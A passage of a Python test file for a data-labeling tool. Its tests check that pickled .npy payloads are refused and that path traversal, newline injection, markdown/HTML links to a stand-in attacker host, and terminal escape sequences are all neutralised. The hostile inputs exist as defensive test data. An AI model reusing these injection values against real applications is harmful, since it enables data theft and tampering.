        marks = [m for m in getattr(test, "pytestmark", []) if m.name == "parametrize"]
        return len(marks[0].args[1]) if marks else 1

    count = sum(cases(t) for t in tests)
    assert count >= 40, count


def test_issues_npy_holding_pickled_objects_is_refused(tmp_path: Path, capsys, monkeypatch) -> None:
    marker = tmp_path / "pwned"
    monkeypatch.setenv("ATTACK_MARKER", str(marker))
    np.save(tmp_path / "labels.npy", np.array([_Payload(), 1], dtype=object), allow_pickle=True)
    np.save(tmp_path / "probs.npy", np.array([[0.5, 0.5], [0.5, 0.5]]))
    code, out, err = core(["issues", "--labels", str(tmp_path / "labels.npy"), "--pred-probs",
                           str(tmp_path / "probs.npy"), "--out", str(tmp_path / "issues.csv")], capsys)
    one_error_line(code, out, err, "allow_pickle")
    assert not marker.exists() and not (tmp_path / "issues.csv").exists()


def test_store_from_elsewhere_cannot_aim_deletion_or_thumbnails_outside(tmp_path: Path) -> None:
    from train import disk

    _, db = competition_store(tmp_path)
    victim = tmp_path / "home"
    (victim / "notes").mkdir(parents=True)
    (victim / "notes" / "thesis.tex").write_text("years of work")
    with LabelStore(db) as store:
        run_id = store.create_run("train", {}, status="done", run_dir=str(victim))
        plan = disk.deletion_plan(store.run(run_id), include_best=True)
        assert plan.refused and not plan.files
        path = f"train/images/{PERSON}/mask1.jpg"
        made = thumbnail(store, path, 64, content_hash_hex="../../../home/evil")
        assert made.parent == store.files_dir / "thumbs"
    assert (victim / "notes" / "thesis.tex").exists()


def test_error_message_with_a_newline_in_data_stays_one_line(tmp_path: Path, capsys) -> None:
    csv = tmp_path / "labels.csv"
    csv.write_text('path,label\n"img/a\nerror: forged.png",x\n"img/b\nerror: forged.png",y\n')
    one_error_line(*core(["ingest", str(csv), "--db", str(tmp_path / "labels.db")], capsys), "labels.csv",
                   "\\x0aerror: forged.png")


@pytest.mark.browser
@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="needs Debian's Chromium at /usr/bin/chromium")
def test_browser_fetches_nothing_a_class_name_points_at(tmp_path: Path) -> None:
    """The reported attack, in a real browser: class names that are a markdown image, an HTML link and an HTML
    image. No page may request the attacker's host or draw a live link or image to it."""
    from playwright.sync_api import sync_playwright

    from core.synthetic import add_score_run
    from tests.app_data import serve

    hostile = ["![t](http://attacker.invalid/md.png)", '<a href="http://attacker.invalid/a">x</a>',
               "<img src=http://attacker.invalid/i.png>"]
    csv = csv_dataset(tmp_path / "data", [hostile[i % 3] for i in range(9)])
    db = tmp_path / "labels.db"
    with LabelStore(db) as store:
        from core.ingest import ingest

        ingest(csv, store)
        add_score_run(store, flag_every=1)
    requests: list[str] = []
    with serve(db, log=tmp_path / "streamlit.log") as url, sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=[
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"])
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1000})
            page.on("request", lambda request: requests.append(request.url))
            for path, ready in (("review?annotator=eve", "button:has-text('Accept')"),
                                ("distributions", ".js-plotly-plot"), ("browse", "button:has-text('Set label')")):
                page.goto(f"{url}/{path}")
                page.locator(ready).first.wait_for(timeout=60_000)
                page.wait_for_timeout(1500)
                assert page.locator("a[href*='attacker.invalid'], img[src*='attacker.invalid']").count() == 0, path
                assert "attacker.invalid" in page.content(), path  # the names are on the page, as text
        finally:
            browser.close()
    assert not [r for r in requests if "attacker.invalid" in r], requests


def test_terminal_escapes_in_a_reason_are_not_sent_to_the_terminal(tmp_path: Path, capsys) -> None:
    _, db = competition_store(tmp_path)
    with LabelStore(db) as store:
        store.correct(PERSON, "gender", "male", expected="female", annotator="\x1b]0;pwned\x07eve",
                      reason="\x1b[2J\x1b[Hcleared\nline 9: forged")
    code, out, _ = core(["history", "--db", str(db)], capsys)
    assert code == 0 and "\x1b" not in out and "\\x1b[2J" in out
    assert not any(line.startswith("line 9") for line in out.splitlines())


def test_app_started_from_another_folder_binds_loopback(tmp_path: Path) -> None:
    import subprocess
    import sys

    from tests.app_data import free_port

    port = free_port()
    env = {**os.environ, "LABELS_DB": str(tmp_path / "labels.db"), "LABELS_AUTO_DEMO": "0", "PYTHONPATH": str(REPO)}
    log = tmp_path / "streamlit.log"
    with open(log, "w") as out:
        server = subprocess.Popen([sys.executable, "-m", "streamlit", "run", APP, "--server.port", str(port)],
                                  cwd=tmp_path, env=env, stdout=out, stderr=subprocess.STDOUT)
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and "URL:" not in log.read_text():
            time.sleep(0.3)
        text = log.read_text()
        assert f"127.0.0.1:{port}" in text and "0.0.0.0" not in text, text
    finally:
        server.terminate()
        server.wait(timeout=20)
